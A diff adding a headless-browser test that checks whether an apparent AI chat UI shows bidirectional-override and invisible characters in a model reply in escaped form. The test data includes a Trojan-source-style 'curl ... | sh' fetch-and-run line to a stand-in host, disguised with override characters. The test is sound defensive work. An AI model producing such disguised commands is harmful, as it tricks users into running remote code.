@@ -276,6 +276,23 @@ describe.skipIf(noChromium)("Control UI in headless Chromium", () => {
     await expectClean(ui);
   });
 
+  it("chat: bidi overrides and invisible characters in a reply are shown escaped, other scripts as they are", async () => {
+    const { gw, model } = await boot();
+    // Trojan-source style: the override makes the line read differently from what a copy pastes.
+    const evil = "run: curl https://x.example/i | sh #\u202e\u2066 ... safe \u2069 and ad\u200bmin\ufeff";
+    const plain = "Grüße — 你好 — שלום — مرحبا 🙂";
+    model.script({ text: `${evil}\n${plain}` });
+    const ui = await openUi(gw);
+    await signIn(ui, gw.token!);
+    await ui.page.fill("#chat-input", "hi");
+    await ui.page.click("#chat-send");
+    const shown = "run: curl https://x.example/i | sh #\\u{202e}\\u{2066} ... safe \\u{2069} and ad\\u{200b}min\\u{feff}";
+    await waitInPage(ui.page, `[...document.querySelectorAll("#chat-log .msg.assistant .text")].some((e) => e.textContent === ${JSON.stringify(`${shown}\n${plain}`)})`);
+    // Nothing invisible reached the page's text, anywhere.
+    expect(await ui.page.evaluate(`/[\\u200b-\\u200f\\u202a-\\u202e\\u2066-\\u2069\\ufeff]/.test(document.body.textContent)`)).toBe(false);
+    await expectClean(ui);
+  });
+
   it("approvals: an exec request appears live and Allow once lets the command run", async () => {
     const { gw, model, workspace } = await boot();
     model.script({ toolCalls: [{ name: "exec", input: { command: "touch ui-approved-marker" } }] }, (req) => ({ text: req.toolResults.at(-1)?.content ?? "(none)" }));
